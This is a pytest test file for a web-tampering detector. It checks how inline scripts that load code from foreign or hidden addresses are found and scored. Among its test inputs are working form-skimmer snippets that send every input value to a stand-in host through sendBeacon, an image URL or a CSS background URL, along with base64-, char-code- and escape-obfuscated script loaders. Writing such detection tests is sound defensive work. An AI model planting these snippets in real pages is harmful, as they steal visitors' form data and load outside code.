"""Inline loads: addresses inline scripts load from, written plainly or hidden, found and scored."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
from tamperwatch.detect.inline_loads import ENCODED, HIDDEN, PLAIN, SKIMMER, inline_loads

from .synthetic import news_page, page
from .test_foreign_injection import rotating_part, trusted_part

EVIL = "https://stats.example-analytics.net/t.js"
CODES = ",".join(str(ord(c)) for c in EVIL)
B64 = base64.b64encode(EVIL.encode()).decode()
ESCAPED = "".join(f"%{ord(c):02x}" for c in EVIL)
HEX = "".join(f"\\x{ord(c):02x}" for c in EVIL)  # '\x68\x74...' as written in the script
UNI = "".join(f"\\u{ord(c):04x}" for c in EVIL)


def loads(script: str) -> list[tuple[str, str]]:
    return inline_loads(LexborHTMLParser(f"<html><body>{script}</body></html>"))


@pytest.mark.parametrize(
    ("script", "how"),
    [
        (
            f'<script>var s=document.createElement("script");s.src="{EVIL}";document.body.append(s)</script>',
            PLAIN,
        ),
        (f"<script>s.setAttribute('src', '{EVIL}')</script>", PLAIN),
        (f"<script>document.write('<script src=\\\"{EVIL}\\\"><\\/script>')</script>", PLAIN),
        (f'<script>var u=atob("{B64}");var s=document.createElement("script");s.src=u;</script>', ENCODED),
        (f"<script>var u=String.fromCharCode({CODES});</script>", ENCODED),
        (f"<script>document.write(unescape('{ESCAPED}'))</script>", ENCODED),
        (f"<script>document.write(decodeURIComponent('{ESCAPED}'))</script>", ENCODED),
        (f"<script>var k=document.createElement('script');k['src']='{HEX}';</script>", ENCODED),
        (f"<script>var k=document.createElement('script');k.src='{UNI}';</script>", ENCODED),
        (
            "<script>document.addEventListener('submit',function(e){var d={};"
            "e.target.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
            f"navigator.sendBeacon('{EVIL}',JSON.stringify(d))}},true)</script>",
            SKIMMER,
        ),
        (
            "<script>var q=[];document.querySelectorAll('form input').forEach(function(i){q.push(i.value)});"
            f"new Image().src='{EVIL}?d='+q.join(',')</script>",
            SKIMMER,
        ),
    ],
)
def test_the_address_an_inline_script_loads_from_is_found(script: str, how: str) -> None:
    assert any(url.startswith(EVIL) and found == how for url, found in loads(script)), loads(script)


def test_data_and_external_scripts_are_not_read_as_inline_code() -> None:
    assert loads(f'<script type="application/ld+json">{{"x": "src=\\"{EVIL}\\""}}</script>') == []
    assert loads(f'<script src="/a.js">s.src="{EVIL}"</script>') == []


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="atob(fromCharCode)unescape%src=\"'`/:.,0123456789aZ+ ", max_size=300))
def test_any_inline_code_is_read_without_raising(code: str) -> None:
    assert isinstance(loads(f"<script>{code}</script>"), list)


def test_a_skimmer_is_strong_evidence_even_where_vendors_rotate() -> None:
    det = ForeignInjectionDetector()
    script = (
        "<script>var q=[];document.querySelectorAll('form input').forEach(function(i){q.push(i.value)});"
        f"new Image().src='{EVIL}?d='+q.join(',')</script>"
    )
    [finding] = det.detect(rotating_part(det), page(news_page(9, body_extra=script)))
    assert finding.score >= 0.5 and "skimmer" in finding.reason


def test_an_obfuscated_loader_from_an_unseen_origin_is_content_evidence_with_a_reason() -> None:
    det = ForeignInjectionDetector()
    script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
    [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
    assert finding.content and finding.score >= 0.5
    assert "address it hides (encoded), unseen origin example-analytics.net" in finding.reason


def test_a_plain_inline_loader_is_weaker_evidence_than_the_same_script_tag() -> None:
    """Ad and consent loaders rotate vendors from inline code: a plain one alone stays below the
    suspicious threshold (it only adds to decisive evidence); the bare tag for the same address
    is content evidence."""
    det = ForeignInjectionDetector()
    part = rotating_part(det)
    inline = f'<script>var s=document.createElement("script");s.src="{EVIL}";</script>'
    tag = f'<script src="{EVIL}"></script>'
    [by_inline] = det.detect(part, page(news_page(9, body_extra=inline)))
    [by_tag] = det.detect(part, page(news_page(9, body_extra=tag)))
    assert 0.15 <= by_inline.score < 0.3 and by_tag.score >= 0.5
    assert by_inline.reason == "inline script loading from unseen origin example-analytics.net"


def test_an_inline_loader_seen_in_the_trusted_captures_raises_nothing() -> None:
    det = ForeignInjectionDetector()
    script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
    part: dict[str, object] = {}
    for day in range(3):
        det.learn_trusted(part, page(news_page(day, body_extra=script)))
    assert det.detect(part, page(news_page(9, body_extra=script))) == []


def test_an_import_map_loads_the_addresses_it_maps_module_names_to() -> None:
    script = (
        '<script type="importmap">{"imports": {"app-shell": "https://mods.heliotrope.example/a.mjs"}}</script>'
        '<script type="module">import "app-shell";</script>'
    )
    assert ("https://mods.heliotrope.example/a.mjs", PLAIN) in loads(script)


def test_a_submit_listener_that_points_the_form_elsewhere_is_a_skimmer() -> None:
    script = (
        "<script>document.addEventListener('submit',function(e){"
        "e.target.action='https://collect.heliotrope.example/in';},true);</script>"
    )
    assert ("https://collect.heliotrope.example/in", SKIMMER) in loads(script)


@pytest.mark.parametrize(
    "script",
    [
        # an action field of an event, and a form sent to the site itself
        "<script>document.querySelectorAll('input[type=checkbox]').forEach(function(b){"
        "b.addEventListener('change',function(ev){ev.action='toggle';if(ev.action=='x'){}});});"
        "document.forms[0].addEventListener('submit',function(){this.action='/suche';});"
        "var cfg={widget:'https://cdn.widgetvendor.example/w.js'};</script>",
        # a share button's address built next to a field check, and a chat link a visitor opens
        "<script>document.querySelector('#mail').addEventListener('input',function(e){"
        "e.target.classList.toggle('bad',!/@/.test(e.target.value));});"
        "share.href='https://twitter.example/intent/tweet?url='+encodeURIComponent(location.href);"
        "order.onclick=function(){window.open('https://wa.example/491234?text='+msg.value)};</script>",
    ],
)
def test_field_handling_that_sends_nothing_silently_elsewhere_is_no_skimmer(script: str) -> None:
    assert all(how != SKIMMER for _, how in loads(script))


def test_a_field_listener_that_writes_the_value_into_another_sites_address_is_a_skimmer() -> None:
    script = (
        "<script>document.addEventListener('change',function(e){var t=e.target;if(!t.value)return;"
        "var i=document.createElement('i');"
        "i.style.backgroundImage='url(https://px.heliotrope.example/p.gif?v='+btoa(t.name+'='+t.value)+')';"
        "document.body.appendChild(i);},true);</script>"
    )
    assert ("https://px.heliotrope.example/p.gif?v=", SKIMMER) in loads(script)


def test_an_inert_script_block_is_code_once_a_script_runs_its_text() -> None:
    inert = (
        '<script type="text/x-template" id="cfg">var e=document.createElement("script");'
        f'e.setAttribute("src","{EVIL}");document.head.appendChild(e);</script>'
    )
    runner = "<script>(new Function(document.getElementById('cfg').textContent))();</script>"
    assert (EVIL, HIDDEN) in loads(inert + runner)
    assert all(url != EVIL for url, _ in loads(inert))  # a template nobody runs loads nothing


def test_a_style_sheet_importing_a_script_file_hides_code() -> None:
    style = '<style>@import url("https://img.heliotrope.example/hm.js?a3d4");</style>'
    assert ("https://img.heliotrope.example/hm.js?a3d4", HIDDEN) in loads(style)
    assert loads('<style>@import url("https://fonts.heliotrope.example/css2.css");</style>') == []


def test_frames_of_a_page_that_runs_what_windows_post_to_it_load_code() -> None:
    bridge = (
        "<script>window.addEventListener('message',function(m){"
        "if(m.data&&m.data.k)(new Function(m.data.k))();});</script>"
    )
    frame = '<iframe src="https://relay.heliotrope.example/go/4" style="display:none"></iframe>'
    assert ("https://relay.heliotrope.example/go/4", HIDDEN) in loads(bridge + frame)
    listener = "<script>window.addEventListener('message',function(m){el.style.height=m.data.h});</script>"
    assert all(how != HIDDEN for _, how in loads(listener + frame))  # a frame that sizes itself is a frame


def test_consent_gated_blocks_polyfills_and_template_pictures_load_nothing_hidden() -> None:
    """A consent manager that runs its own gated blocks, a message listener that only sizes a frame
    next to an unrelated ``Function('return this')``, and a picture inside a named template."""
    gated = (
        '<script type="text/plain" data-consent="stats">var p=document.createElement("script");'
        f'p.src="{EVIL}";document.head.appendChild(p);</script>'
        "<script>document.querySelectorAll('script[data-consent]').forEach(function(s){eval(s.innerHTML)});"
        "</script>"
    )
    resize = (
        "<script>window.addEventListener('message',function(m){if(m.data.h)f.height=m.data.h});"
        "var g=new Function('return this')();</script>"
        '<iframe src="https://embed.heliotrope.example/chart/1"></iframe>'
    )
    picture = (
        '<script type="text/x-template" id="card"><img src="https://img.heliotrope.example/a.png"></script>'
        "<script>render(new Function(document.getElementById('card').textContent));</script>"
    )
    for markup in (gated, resize, picture):
        assert all(how != HIDDEN for _, how in loads(markup)), markup
